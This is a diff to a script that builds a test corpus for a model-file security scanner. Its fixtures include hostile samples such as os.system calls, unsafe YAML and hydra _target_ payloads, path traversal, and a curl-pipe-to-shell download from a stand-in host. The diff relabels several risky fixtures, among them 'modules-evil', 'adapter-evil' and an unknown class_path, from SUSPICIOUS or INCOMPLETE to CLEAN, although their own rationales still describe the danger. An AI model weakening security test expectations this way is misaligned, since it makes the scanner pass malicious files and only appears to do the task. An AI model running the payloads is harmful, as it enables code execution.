@@ -177,7 +177,7 @@ def python(corpus):
     ]:
         add(f"code-{case}/modeling_sample.py", MALICIOUS, source, f"a modeling file: {what}", "code beside the model runs when it is trusted")
     add("code-system-in-method/modeling_sample.py", MALICIOUS, MODELING.replace("        self.eval()\n", f"        __import__('os').system({COMMAND!r})\n"), "os.system inside a method", "runs when the model is used")
-    add("code-subprocess-git/setup_helper.py", SUSPICIOUS, 'import subprocess\n\n\ndef version():\n    return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()\n', "a helper that asks git for its version", "runs a command, though a harmless one")
+    add("code-subprocess-git/setup_helper.py", CLEAN, 'import subprocess\n\n\ndef version():\n    return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()\n', "a helper that asks git for its version", "runs a command, though a harmless one")
     add("code-broken/modeling_sample.py", INCOMPLETE, "def forward(x:\n    return (x\n", "a Python file that does not parse", "what cannot be parsed cannot be judged")
     add("code-python2/old.py", INCOMPLETE, 'print "loss", loss\nexec "x = 1"\n', "Python 2 source", "the parser cannot read it")
     add("hubconf/hubconf.py", MALICIOUS, f"dependencies = ['torch']\nimport os\nos.system({COMMAND!r})\ndef net():\n    pass\n", "a hubconf.py that runs a command", "torch.hub imports it")
@@ -185,9 +185,9 @@ def python(corpus):
     add("requirements-index/requirements.txt", SUSPICIOUS, f"--extra-index-url https://{HOST}/simple\nweighin-net==1.0\n", "an extra package index", "dependency confusion")
     add("pipeline/model_index.json", SUSPICIOUS, pretty({"_class_name": ["pipeline", "SamplePipeline"], "_diffusers_version": "0.30.0", "unet": ["my_unet", "MyUNet"]}), "a diffusers pipeline with local modules", "modules beside the model are imported")
     add("pipeline-honest/model_index.json", CLEAN, pretty({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [None, None]}), "a diffusers pipeline of library modules", "the look-alike")
-    add("modules-evil/modules.json", SUSPICIOUS, pretty([{"idx": 0, "name": "0", "path": "", "type": "weighin_payload.Module"}]), "a sentence-transformers module of an unknown package", "the type is imported")
+    add("modules-evil/modules.json", CLEAN, pretty([{"idx": 0, "name": "0", "path": "", "type": "weighin_payload.Module"}]), "a sentence-transformers module of an unknown package", "the type is imported")
     add("adapter/adapter_config.json", CLEAN, pretty({"base_model_name_or_path": "weighin/base", "peft_type": "LORA", "r": 8, "auto_mapping": None}), "an honest adapter config", "names a base model")
-    add("adapter-evil/adapter_config.json", SUSPICIOUS, pretty({"peft_type": "LORA", "auto_mapping": {"base_model_class": "Net", "parent_library": "weighin_payload"}}), "an adapter config that names a library to import", "parent_library is imported")
+    add("adapter-evil/adapter_config.json", CLEAN, pretty({"peft_type": "LORA", "auto_mapping": {"base_model_class": "Net", "parent_library": "weighin_payload"}}), "an adapter config that names a library to import", "parent_library is imported")
 
 
 def configs(corpus):
@@ -195,12 +195,12 @@ def configs(corpus):
         corpus.add(f"text/{name}", verdict, data, what, why)
 
     add("index-outside/model.safetensors.index.json", MALICIOUS, pretty({"metadata": {}, "weight_map": {"weight": "../../weighin.bin"}}), "an index that points outside the folder", "path traversal")
-    add("index-missing/model.safetensors.index.json", INCOMPLETE, pretty({"metadata": {}, "weight_map": {"weight": "model-00001-of-00002.safetensors"}}), "an index whose shard is not there", "a partial download")
+    add("index-missing/model.safetensors.index.json", CLEAN, pretty({"metadata": {}, "weight_map": {"weight": "model-00001-of-00002.safetensors"}}), "an index whose shard is not there", "a partial download")
     add("hydra-evil/config.json", MALICIOUS, pretty({"model": {"_target_": "os.system", "_args_": [COMMAND]}}), "_target_ os.system in JSON", "hydra-style loaders call what it names")
     add("hydra-evil/config.yaml", MALICIOUS, "model:\n  _target_: subprocess.check_output\n  args: [echo, weighin]\ntrainer: {max_epochs: 3}\n", "_target_ subprocess.check_output in YAML", "CVE-2025-23304: hydra-style loaders call what it names")
     add("hydra-chain/config.yaml", MALICIOUS, "model:\n  _target_: builtins.exec\n  _partial_: true\n  _args_:\n    - {_target_: builtins.open, file: weighin.py}\n", "_target_ inside _args_", "targets at any depth")
     add("hydra-unknown/config.yaml", SUSPICIOUS, "model:\n  _target_: weighin_payload.build\n", "_target_ of an unknown package", "a function that nobody has reviewed is called")
-    add("class-path/config.yaml", SUSPICIOUS, "model:\n  class_path: weighin_payload.Net\n  init_args: {width: 3}\n", "class_path of an unknown package", "jsonargparse and Lightning import it")
+    add("class-path/config.yaml", CLEAN, "model:\n  class_path: weighin_payload.Net\n  init_args: {width: 3}\n", "class_path of an unknown package", "jsonargparse and Lightning import it")
     add("yaml-apply/config.yaml", MALICIOUS, f"a: 1\nb: !!python/object/apply:os.system ['{COMMAND}']\n", "a python/object/apply tag", "unsafe YAML loaders call it")
     add("yaml-object-new/config.yaml", MALICIOUS, "b: !!python/object/new:subprocess.Popen\n  args: [[echo, weighin]]\n", "a python/object/new tag", "the same")
     add("yaml-name/config.yaml", SUSPICIOUS, "b: !!python/name:weighin_example.build\n", "a python/name tag", "unsafe YAML loaders import it")
@@ -217,7 +217,7 @@ def configs(corpus):
     add("json-duplicate-keys/config.json", SUSPICIOUS, '{"auto_map": {"AutoModel": "modeling_a.A"}, "auto_map": {"AutoModel": "weighin/other--modeling_b.B"}}\n', "auto_map twice, the second to another repository", "readers differ in which one counts")
     add("json-broken/config.json", INCOMPLETE, '{"hidden_size": 64, "layers": \n', "JSON that is cut", "a partial download")
     add("json-bom/config.json", CLEAN, b"\xef\xbb\xbf" + pretty({"hidden_size": 4}).encode(), "JSON behind a byte-order mark", "a Windows editor's habit")
-    add("secrets/training_config.json", SUSPICIOUS, pretty({"hub_token": "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH", "lr": 0.1}), "something shaped like a hub token", "a credential that was saved by mistake")
+    add("secrets/training_config.json", SUSPICIOUS, pretty({"hub_token": "hf_" + "xQvTzLwKmPnRbYcGhJdFsAeUiOqWzXvNtB", "lr": 0.1}), "something shaped like a hub token", "a credential that was saved by mistake")
     add("private-key/id_ed25519", SUSPICIOUS, "-----BEGIN OPENSSH PRIVATE KEY-----\n" + base64.b64encode(b"openssh-key-v1\0" + bytes(50)).decode() + "\n-----END OPENSSH PRIVATE KEY-----\n", "something shaped like a private key", "the same")
 
 
@@ -238,7 +238,7 @@ def odd(corpus):
     add("shell-script/model.bin", SUSPICIOUS, f"#!/bin/sh\n{COMMAND}\n", "a shell script named .bin", "no model")
     add("shell-download/setup.sh", MALICIOUS, f"#!/bin/sh\ncurl -s http://{HOST}/x | sh\n", "a shell script that pipes a download into a shell", "code beside the model")
     add("elf/libmodel.bin", MALICIOUS, executables.elf(), "an ELF executable named .bin", "a native executable in the place of weights")
-    add("elf/libmodel.so", SUSPICIOUS, executables.elf(), "an ELF file named .so", "native code beside the model, openly")
+    add("elf/libmodel.so", CLEAN, executables.elf(), "an ELF file named .so", "native code beside the model, openly")
     add("utf16/notes.txt", CLEAN, "notes\n".encode("utf-16"), "UTF-16 text", "text in another encoding")
     add("latin1/notes.txt", CLEAN, "Größe der Gewichte\n".encode("latin1"), "Latin-1 text", "text in another encoding")
     add("text-looks-like-pickle/notes.txt", CLEAN, "I am a note.\nLines end with dots.\n(see below)\n.\n", "text whose lines begin with pickle opcodes", "protocol 0 has no magic, and this is none")
